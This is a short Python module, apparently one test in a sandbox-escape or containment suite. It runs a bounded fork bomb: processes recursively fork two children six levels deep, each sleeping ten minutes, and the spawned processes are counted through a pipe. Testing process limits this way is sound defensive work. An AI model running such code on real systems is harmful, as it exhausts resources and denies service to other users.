"""Every process forks two more, each of which does the same."""

import os
import select
import time

from attacking import at_first

DEEP = 6


def attack():
    reading, writing = os.pipe()
    multiply(writing, DEEP)
    processes = 0
    while processes < 100 and select.select([reading], [], [], 1.5)[0]:
        processes += len(os.read(reading, 1000))
    return {"processes": processes}


def multiply(writing, deep) -> None:
    for _ in range(2):
        try:
            if os.fork() == 0:
                os.write(writing, b"x")
                if deep > 1:
                    multiply(writing, deep - 1)
                time.sleep(600)
        except OSError:
            return


choose = at_first(attack)
